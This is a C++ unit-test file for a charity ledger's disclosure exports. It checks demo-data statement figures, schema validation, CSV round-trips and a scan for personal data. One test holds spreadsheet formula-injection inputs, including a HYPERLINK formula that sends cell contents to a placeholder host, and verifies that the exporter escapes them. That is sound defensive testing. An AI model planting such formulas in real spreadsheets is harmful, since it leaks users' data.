// Public statements on the demo data: figures, periods, schema, example, CSV, privacy, indicators.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <variant>
#include <vector>

#include "absl/status/status.h"
#include "absl/status/statusor.h"
#include "ledger/books/demo.h"
#include "ledger/books/entries.h"
#include "ledger/disclose/csv.h"
#include "ledger/disclose/statement.h"
#include "ledger/strings.h"
#include "nlohmann/json.hpp"
#include "tests/disclose/disclose_test_support.h"
#include "tests/disclose/schema_validator.h"

namespace boai::disclose {
namespace {

namespace fs = std::filesystem;
using disclose_testing::DiscloseTest;
using disclose_testing::ReadFile;
using nlohmann::json;

constexpr int64_t kYuan = 100;

TEST_F(DiscloseTest, Year2019FiguresAreTheCountys) {
  json s = Statement("2019");
  EXPECT_EQ(s["format"], "boai-statement/1");
  EXPECT_EQ(s["period"], json({{"kind", "year"},
                               {"id", "2019"},
                               {"from", "2019-01-01"},
                               {"to", "2019-12-31"},
                               {"fund", nullptr}}));
  // Donations raised in 2019, all channels: 135,700 yuan; grants 510,000; matching 4,300.
  EXPECT_EQ(s["income"]["donations"], 135700 * kYuan);
  EXPECT_EQ(s["income"]["grants"], 510000 * kYuan);
  EXPECT_EQ(s["income"]["matching"], 4300 * kYuan);
  EXPECT_EQ(s["income"]["total"], (135700 + 510000 + 4300) * kYuan);
  // The mistaken 8,000 cash gift and its reversal net to zero.
  EXPECT_EQ(s["income"]["by_channel"],
            json::parse(R"([{"amount":3980000,"channel":"cash","count":8},
                            {"amount":55520000,"channel":"bank","count":7},
                            {"amount":1570000,"channel":"online","count":12},
                            {"amount":3500000,"channel":"in_kind","count":2}])"));
  // Payments: Spring Festival relief 200,000, relief boxes 5,000, Little Angel 9 x 30,000.
  EXPECT_EQ(s["payments"]["total"], 475000 * kYuan);
  EXPECT_EQ(s["payments"]["count"], 31);
  EXPECT_EQ(Row(s["payments"]["by_programme"], "fund", "fund.spring-relief")["amount"],
            200000 * kYuan);
  json la = Row(s["payments"]["by_programme"], "fund", "fund.little-angel");
  EXPECT_EQ(la["amount"], 270000 * kYuan);
  EXPECT_EQ(la["count"], 9);
  EXPECT_EQ(la["programme"], "prog.little-angel");
  EXPECT_EQ(s["aid"], json::parse(R"([{"amount":27000000,"count":9,"name":"小天使基金 Little Angel",
                                       "programme":"prog.little-angel","tier":"standard"}])"));
  // 99 Giving Day: target 20,000; raised 15,700; matching 4,600 less 300; settled 20,000.
  json c = Row(s["campaigns"], "id", "camp.99-2019");
  EXPECT_EQ(c["target"], 20000 * kYuan);
  EXPECT_EQ(c["raised"], 15700 * kYuan);
  EXPECT_EQ(c["gifts"], 12);
  EXPECT_EQ(c["matched"], 4600 * kYuan);
  EXPECT_EQ(c["clawed_back"], 300 * kYuan);
  EXPECT_EQ(c["matched_net"], 4300 * kYuan);
  EXPECT_EQ(c["settled"], 20000 * kYuan);
  EXPECT_EQ(c["settled_gifts"], 15700 * kYuan);
  // Funds: opening 0 (the ledger starts in 2019), closing = what is left.
  std::map<std::string, int64_t> closing = {{"fund.unrestricted", 15000 * kYuan},
                                            {"fund.spring-relief", 0},
                                            {"fund.village-pairing", 0},
                                            {"fund.guangming", 20000 * kYuan},
                                            {"fund.little-angel", 0},
                                            {"fund.first-aid-base-1", 70000 * kYuan},
                                            {"fund.first-aid-base-2", 70000 * kYuan}};
  ASSERT_EQ(s["funds"].size(), closing.size());
  for (const json& f : s["funds"]) {
    EXPECT_EQ(f["opening"], 0) << f["id"];
    EXPECT_EQ(f["closing"], closing[f["id"].get<std::string>()]) << f["id"];
    EXPECT_EQ(
        f["closing"].get<int64_t>(),
        f["opening"].get<int64_t>() + f["income"].get<int64_t>() - f["payments"].get<int64_t>())
        << f["id"];
  }
  EXPECT_EQ(Row(s["funds"], "id", "fund.spring-relief")["payments"], 200000 * kYuan);
  EXPECT_EQ(Row(s["funds"], "id", "fund.little-angel")["restricted"], true);
  // In kind: goods on their document, relief boxes at fair value.
  ASSERT_EQ(s["in_kind"].size(), 2u);
  EXPECT_EQ(s["in_kind"][0]["method"], "document");
  EXPECT_EQ(s["in_kind"][0]["amount"], 30000 * kYuan);
  EXPECT_EQ(s["in_kind"][1]["method"], "fair_value");
  EXPECT_EQ(s["in_kind"][1]["quantity"], 20);
  // Corrections: the reversal and the voided receipt, both pointing at the gift.
  uint64_t wrong = **log_->FindByKey("HB2019-0008");
  ASSERT_EQ(s["corrections"].size(), 2u);
  EXPECT_EQ(s["corrections"][0]["kind"], "reversal");
  EXPECT_EQ(s["corrections"][0]["corrects"], wrong);
  EXPECT_EQ(s["corrections"][0]["amount"], 8000 * kYuan);
  EXPECT_EQ(s["corrections"][1]["kind"], "receipt.void");
  EXPECT_EQ(s["corrections"][1]["corrects"], wrong);
  EXPECT_EQ(s["corrections"][1]["receipt_number"], 8);
  // Donors: every gift, by the display chosen, the wrong one marked reversed.
  EXPECT_EQ(s["donors"].size(), 30u);
  json w = Row(s["donors"], "index", wrong);
  EXPECT_EQ(w["display"], "赵*");
  EXPECT_EQ(w["reversed_by"], s["corrections"][0]["index"]);
  EXPECT_EQ(Row(s["donors"], "receipt_number", 1)["display"], "张*");
  // Indicators.
  std::map<std::string, int64_t> ind;
  for (const json& i : s["indicators"]) ind[i["id"]] = i["value"];
  EXPECT_EQ(ind, (std::map<std::string, int64_t>{{"first-aid.certified", 1379},
                                                 {"first-aid.trained", 35000},
                                                 {"stem-cell.registrations", 123},
                                                 {"organ-donation.volunteers", 30},
                                                 {"volunteers", 1800}}));
  // Monthly series add up to the totals.
  int64_t income = 0, paid = 0;
  for (const json& m : s["monthly"])
    income += m["income"].get<int64_t>(), paid += m["payments"].get<int64_t>();
  EXPECT_EQ(income, s["income"]["total"]);
  EXPECT_EQ(paid, s["payments"]["total"]);
  // Integrity: the latest checkpoint, every listed leaf with a proof.
  EXPECT_EQ(s["integrity"]["checkpoint"], log_->LatestCheckpoint());
  EXPECT_EQ(s["integrity"]["verifier_key"], log_->verifier().VerifierKey());
  EXPECT_EQ(s["integrity"]["origin"], "boai.local/ledger");
  EXPECT_EQ(s["integrity"]["previous"], nullptr);
  EXPECT_EQ(s["integrity"]["cosignatures"], json::array());
  EXPECT_EQ(s["integrity"]["entries"][0]["leaf"],
            *log_->LeafAt(s["integrity"]["entries"][0]["index"]));
}

TEST_F(DiscloseTest, QuarterCampaignAndProgrammePeriods) {
  json q3 = Statement("2019Q3");
  EXPECT_EQ(q3["period"]["from"], "2019-07-01");
  EXPECT_EQ(q3["period"]["to"], "2019-09-30");
  EXPECT_EQ(q3["income"]["donations"], 15700 * kYuan);    // the 99 Giving Day gifts
  EXPECT_EQ(q3["income"]["matching"], 4300 * kYuan);      // matched 09-09, clawback 09-30
  EXPECT_EQ(q3["payments"]["total"], 3 * 30000 * kYuan);  // Little Angel in Jul, Aug, Sep
  EXPECT_EQ(Row(q3["campaigns"], "id", "camp.99-2019")["settled"], 0);  // settled 10-15
  EXPECT_TRUE(q3["indicators"].empty());
  // 270,000 granted in March, four children paid March to June.
  EXPECT_EQ(Row(q3["funds"], "id", "fund.little-angel")["opening"], 5 * 30000 * kYuan);

  json sep = Statement("2019-09");
  EXPECT_EQ(sep["period"]["kind"], "month");
  EXPECT_EQ(sep["income"]["by_channel"][2]["count"], 12);

  json camp = Statement("camp.99-2019");
  EXPECT_EQ(camp["period"]["kind"], "campaign");
  EXPECT_EQ(camp["period"]["fund"], "fund.guangming");
  EXPECT_EQ(camp["period"]["from"], "2019-09-07");
  EXPECT_EQ(camp["income"]["donations"], 15700 * kYuan);
  EXPECT_EQ(camp["income"]["grants"], 0);
  EXPECT_EQ(camp["campaigns"].size(), 1u);
  EXPECT_EQ(camp["campaigns"][0]["settled"], 20000 * kYuan);
  EXPECT_EQ(camp["funds"].size(), 1u);
  EXPECT_EQ(camp["funds"][0]["closing"], 20000 * kYuan);
  EXPECT_EQ(camp["donors"].size(), 12u);

  json prog = Statement("prog.little-angel");
  EXPECT_EQ(prog["period"]["kind"], "programme");
  EXPECT_EQ(prog["period"]["fund"], "fund.little-angel");
  EXPECT_EQ(prog["income"]["grants"], 270000 * kYuan);
  EXPECT_EQ(prog["payments"]["total"], 270000 * kYuan);
  EXPECT_EQ(prog["aid"][0]["count"], 9);
  EXPECT_EQ(prog["funds"][0]["closing"], 0);

  absl::StatusOr<json> bad = BuildStatement(*log_, "2019Q5", {});
  EXPECT_EQ(bad.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_NE(bad.status().message().find("2019Q5"), absl::string_view::npos);
  EXPECT_EQ(BuildStatement(*log_, "2019-13", {}).status().code(),
            absl::StatusCode::kInvalidArgument);
}

json Schema() {
  json s = json::parse(ReadFile(fs::path(BOAI_SOURCE_DIR) / "docs/statement.schema.json"), nullptr,
                       false);
  EXPECT_FALSE(s.is_discarded());
  return s;
}

TEST_F(DiscloseTest, EveryPeriodKindValidatesAgainstTheSchema) {
  json schema = Schema();
  for (const char* p : {"2019", "2019Q1", "2019-09", "2020", "camp.99-2019", "prog.little-angel"}) {
    EXPECT_EQ(testing::Validate(schema, Statement(p)), "") << p;
  }
  json prev = Statement("2019Q1");
  BuildOptions with_prev;
  with_prev.previous = prev;
  EXPECT_EQ(testing::Validate(schema, Statement("2019", with_prev)), "");
}

// docs/examples/statement-2019.json is the 2019 statement of the demo data. Its
// figures must stay those the code computes (the integrity block differs per
// ledger: keys and times are new each run). BOAI_UPDATE_EXAMPLE=1 rewrites it.
TEST_F(DiscloseTest, TheCommittedExampleIsCurrent) {
  fs::path path = fs::path(BOAI_SOURCE_DIR) / "docs/examples/statement-2019.json";
  json fresh = Statement("2019");
  if (std::getenv("BOAI_UPDATE_EXAMPLE") != nullptr) {
    std::ofstream(path, std::ios::binary | std::ios::trunc) << fresh.dump(2) << "\n";
  }
  json example = json::parse(ReadFile(path), nullptr, false);
  ASSERT_FALSE(example.is_discarded()) << path;
  EXPECT_EQ(testing::Validate(Schema(), example), "");
  for (const auto& [key, value] : fresh.items()) {
    if (key != "integrity") {
      EXPECT_EQ(example[key], value) << key << " (BOAI_UPDATE_EXAMPLE=1)";
    }
  }
  EXPECT_EQ(example["integrity"]["entries"].size(), fresh["integrity"]["entries"].size());
}

TEST_F(DiscloseTest, TheValidatorRejectsWrongDocuments) {
  json schema = Schema();
  json good = Statement("2019");
  ASSERT_EQ(testing::Validate(schema, good), "");
  auto broken = [&good](const std::function<void(json&)>& f) {
    json d = good;
    f(d);
    return d;
  };
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["income"]["total"] = "650000"; })),
            "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["income"]["total"] = 6500.5; })), "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d.erase("donors"); })), "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["donors"][0]["phone"] = "138"; })),
            "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["period"]["kind"] = "week"; })), "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["donors"][0]["amount"] = -1; })), "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["period"]["from"] = "2019/01/01"; })),
            "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) {
                                d["integrity"]["entries"][0]["leaf_hash"] = "not base64";
                              })),
            "");
  EXPECT_NE(testing::Validate(schema, broken([](json& d) { d["integrity"]["previous"] = 3; })), "");
}

TEST_F(DiscloseTest, CsvTablesRoundTrip) {
  json s = Statement("2019");
  std::map<std::string, std::string> files = StatementFiles(s);
  EXPECT_EQ(files["statement.js"], StrCat("window.BOAI_STATEMENT = ", s.dump(2), ";\n"));
  EXPECT_EQ(json::parse(files["statement.json"]), s);
  for (const CsvTable& t : StatementTables()) {
    const std::string& text = files[t.name + ".csv"];
    ASSERT_EQ(text.substr(0, 3), kUtf8Bom) << t.name;
    absl::StatusOr<std::vector<std::vector<std::string>>> rows = ParseCsv(text);
    ASSERT_TRUE(rows.ok()) << rows.status();
    const json& want = s[json::json_pointer(t.path)];
    ASSERT_EQ(rows->size(), want.size() + 1) << t.name;
    EXPECT_EQ((*rows)[0], CsvHeader(t)) << t.name;
    for (size_t r = 0; r < want.size(); ++r) {
      ASSERT_EQ((*rows)[r + 1].size(), t.columns.size()) << t.name << " row " << r;
      for (size_t c = 0; c < t.columns.size(); ++c) {
        EXPECT_EQ((*rows)[r + 1][c], CsvText(want[r][t.columns[c]]))
            << t.name << " row " << r << " column " << t.columns[c];
        // Read back by the documented rule, each cell is the JSON value: text as is
        // (one leading ' dropped), integers in decimal, null empty.
        const json& v = want[r][t.columns[c]];
        std::string expected = v.is_null()      ? ""
                               : v.is_string()  ? v.get<std::string>()
                               : v.is_boolean() ? (v.get<bool>() ? "true" : "false")
                                                : std::to_string(v.get<int64_t>());
        EXPECT_EQ(CsvCellValue((*rows)[r + 1][c]), expected)
            << t.name << " row " << r << " column " << t.columns[c];
      }
    }
  }
  EXPECT_EQ(ParseCsv(files["income.csv"])->at(0),
            (std::vector<std::string>{"fund", "name", "donations_fen", "grants_fen", "matching_fen",
                                      "total_fen"}));
  // Quoting: commas, quotes and line breaks survive.
  json tricky = json::array({{{"a", "x,\"y\"\r\nz"}, {"b", 5}}});
  auto parsed = ParseCsv(ToCsv(tricky, {"a", "b"}));
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ((*parsed)[1], (std::vector<std::string>{"x,\"y\"\r\nz", "5"}));
  EXPECT_FALSE(ParseCsv("a,\"b\r\n").ok());
}

// The money columns of the CSV tables (headers "<name>_fen") are exactly the
// columns that hold money by the page's list (figures.js MONEY) and hold integers
// in the demo statement; none holds anything but integers and null.
TEST_F(DiscloseTest, CsvMoneyColumnsAreTheAmounts) {
  std::string figures_js = ReadFile(fs::path(BOAI_SOURCE_DIR) / "tools/disclose/site/figures.js");
  size_t at = figures_js.find("const MONEY = new Set([");
  ASSERT_NE(at, std::string::npos);
  std::string list = figures_js.substr(at, figures_js.find("]", at) - at);
  std::set<std::string> money_names;
  for (size_t q = list.find('\''); q != std::string::npos; q = list.find('\'', q + 1)) {
    size_t end = list.find('\'', q + 1);
    money_names.insert(list.substr(q + 1, end - q - 1));
    q = end;
  }
  ASSERT_GT(money_names.size(), 10u);
  json s = Statement("2019");
  for (const CsvTable& t : StatementTables()) {
    const json& rows = s[json::json_pointer(t.path)];
    for (const std::string& c : t.columns) {
      bool listed = std::find(t.money.begin(), t.money.end(), c) != t.money.end();
      bool integers = !rows.empty(), any = false;
      for (const json& r : rows) {
        if (!r[c].is_null()) any = true;
        if (!r[c].is_null() && !r[c].is_number_integer()) integers = false;
      }
      if (listed) {
        EXPECT_TRUE(money_names.count(c)) << t.name << "." << c << " is not money in figures.js";
        EXPECT_TRUE(integers) << t.name << "." << c << " holds something other than fen";
      } else if (money_names.count(c) && integers && any) {
        ADD_FAILURE() << t.name << "." << c << " holds fen but its header has no _fen";
      }
    }
    for (const std::string& m : t.money) {
      EXPECT_NE(std::find(t.columns.begin(), t.columns.end(), m), t.columns.end()) << m;
    }
  }
}

TEST(CsvCells, TextThatASpreadsheetWouldRunIsWrittenAsText) {
  json row = {{"a", "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"},
              {"b", "+86 138"},
              {"c", "-2+3"},
              {"d", "@SUM(A1)"},
              {"e", "\tx"},
              {"f", "\rx"},
              {"g", "'quoted"},
              {"h", -800000},
              {"i", "张*"},
              {"j", "a=b"},
              {"k", nullptr},
              {"l", true}};
  std::vector<std::string> cols = {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l"};
  EXPECT_EQ(ToCsv(json::array({row}), cols),
            StrCat(kUtf8Bom,
                   "a,b,c,d,e,f,g,h,i,j,k,l\r\n"
                   "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",'+86 138,'-2+3,"
                   "'@SUM(A1),'\tx,\"'\rx\",''quoted,-800000,张*,a=b,,true\r\n"));
  absl::StatusOr<std::vector<std::vector<std::string>>> rows =
      ParseCsv(ToCsv(json::array({row}), cols));
  ASSERT_TRUE(rows.ok()) << rows.status();
  ASSERT_EQ(rows->size(), 2u);
  for (size_t c = 0; c < cols.size(); ++c) {
    const json& v = row[cols[c]];
    EXPECT_EQ(CsvCellValue((*rows)[1][c]), v.is_string() ? v.get<std::string>() : CsvText(v))
        << cols[c];
  }
  EXPECT_FALSE(NeedsFormulaGuard("1800"));
  EXPECT_FALSE(NeedsFormulaGuard(""));
  EXPECT_TRUE(NeedsFormulaGuard("-"));
}

// Every file under `dir` that holds one of `values`: "file: value", or "".
std::string ScanForPersonalData(const fs::path& dir, const std::vector<std::string>& values) {
  for (const auto& entry : fs::recursive_directory_iterator(dir)) {
    if (!entry.is_regular_file()) continue;
    std::string text = ReadFile(entry.path());
    for (const std::string& v : values) {
      if (text.find(v) != std::string::npos) return StrCat(entry.path().string(), ": ", v);
    }
  }
  return "";
}

TEST_F(DiscloseTest, NoPersonalDataInAnyExportedFile) {
  std::vector<std::string> personal = books::DemoPersonalValues();
  ASSERT_GT(personal.size(), 50u);
  fs::path out = *root_ / "privacy";
  for (const char* p :
       {"2019", "2019Q1", "2019Q3", "2019-01", "2019-09", "camp.99-2019", "prog.little-angel"}) {
    json s = Statement(p);
    ASSERT_TRUE(WriteFiles((out / p).string(), StatementFiles(s)).ok());
  }
  EXPECT_EQ(ScanForPersonalData(out, personal), "");
  // The scan finds a value planted in one file.
  std::ofstream(out / "2019" / "donors.csv", std::ios::app) << personal[7] << "\r\n";
  EXPECT_EQ(ScanForPersonalData(out, personal),
            StrCat((out / "2019" / "donors.csv").string(), ": ", personal[7]));
}

TEST(IndicatorEntry, ParsesRoundTripsAndRefusesBadCounts) {
  json body = {{"by", "clerk.wang"},          {"date", "2019-12-31"}, {"id", "volunteers"},
               {"name", "志愿者 volunteers"}, {"unit", "人 persons"}, {"value", 1800}};
  absl::StatusOr<books::Entry> e = books::ParseEntry("indicator", body);
  ASSERT_TRUE(e.ok()) << e.status();
  EXPECT_EQ(std::get<books::Indicator>(e->body).value, 1800);
  EXPECT_EQ(books::ToJson(*e), body);
  EXPECT_EQ(books::PostingsOf(*e), nullptr);  // moves no money
  json negative = body;
  negative["value"] = -1;
  EXPECT_EQ(books::ParseEntry("indicator", negative).status().code(),
            absl::StatusCode::kInvalidArgument);
  json unnamed = body;
  unnamed["name"] = "";
  EXPECT_FALSE(books::ParseEntry("indicator", unnamed).ok());
  json extra = body;
  extra["amount"] = 5;
  EXPECT_FALSE(books::ParseEntry("indicator", extra).ok());
}

}  // namespace
}  // namespace boai::disclose
